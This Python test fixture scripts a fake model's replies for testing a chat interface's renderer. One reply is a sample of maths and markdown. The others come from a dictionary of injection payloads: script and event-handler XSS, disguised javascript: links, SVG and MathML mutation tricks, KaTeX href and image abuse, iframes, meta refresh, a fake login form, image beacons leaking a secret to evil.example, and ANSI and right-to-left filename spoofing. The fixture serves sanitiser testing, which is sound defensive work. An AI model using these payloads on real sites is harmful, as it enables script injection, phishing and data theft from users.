"""What the scripted model answers, by a text in the question."""

from __future__ import annotations

from typing import Final

MATHS: Final = r"""The roots of $ax^2 + bx + c = 0$ follow:

\[
x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}
\]

1. Divide by \(a\): $$x^2 + \frac{b}{a}x = 0$$
2. It costs $5, or $6 with tea.

| Case | Roots |
|---|---:|
| $b^2 > 4ac$ | 2 |

```python
def double(number: int) -> int:
    return 2 * number
```

So it is \boxed{x = 2}, as <b>html</b> and [a link](https://example.com) show.
"""
LONG: Final = " ".join(f"step {number}," for number in range(200))
HOSTILE: Final = {
    "script": "<script>window.pwned = 1</script>",
    "handler": "<img src=x onerror='window.pwned = 1'>",
    "javascript-link": "[go](javascript:window.pwned=1)",
    "javascript-link-in-disguise": "[go](java&#x09;script:window.pwned=1) [go](JaVaScRiPt&colon;window.pwned=1) <javascript:pwned=1>",
    "data-link": "[go](data:text/html,<script>window.pwned=1</script>) [go](vbscript:window.pwned=1) [go](file:///etc/passwd)",
    "image": "![see](https://evil.example/leak.png?secret) ![x][1]\n\n[1]: https://evil.example/second.png",
    "svg": "<svg onload='window.pwned=1'><a href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
    "katex-href": r"\(\href{javascript:window.pwned=1}{x}\) $\url{https://evil.example}$",
    "katex-image": r"$$\includegraphics[height=1em]{https://evil.example/x.png}$$",
    "katex-html": r"$\htmlId{composer}{x} \htmlStyle{background:url(https://evil.example)}{x} \htmlData{x=y}{x}$",
    "katex-loop": r"$\def\a{\a\a}\a$ and $\rule{99999em}{99999em}$",
    "style": "<style>body { display: none; background: url(https://evil.example/x) }</style>",
    "style-attribute": "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</p>",
    "iframe": "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
    "form": "<form action='https://evil.example'><button>Log in</button><input name=key></form>",
    "link-prefetch": "<link rel=prefetch href=https://evil.example/x><link rel=stylesheet href=https://evil.example/x.css>",
    "media": "<video src=https://evil.example/x autoplay onloadstart='window.pwned=1'></video><object data=https://evil.example/x></object>",
    "ansi": "\x1b]0;title\x07\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \u202egnp.exe",
    "language": '```python"><img src=x onerror="window.pwned=1">\ncode\n```\n\n```<script>window.pwned=1</script>\ncode\n```',
    "attribute": '[go](https://example.com/"onmouseover="window.pwned=1 "title\\" onclick=\\"window.pwned=1")',
    "clobber": "<a id=question name=question href=https://example.com>x</a><form id=ask><input id=send></form>",
    "template": "<template><script>window.pwned=1</script></template><noscript><img src=x onerror=window.pwned=1></noscript>",
}
SCRIPT: Final = {
    "Derive": ("I complete the square.", MATHS),
    "Think long": (LONG, "I had to stop."),
    "Say long": ("Short.", LONG),
    **{f"Attack {name}.": (text, text) for name, text in HOSTILE.items()},
}
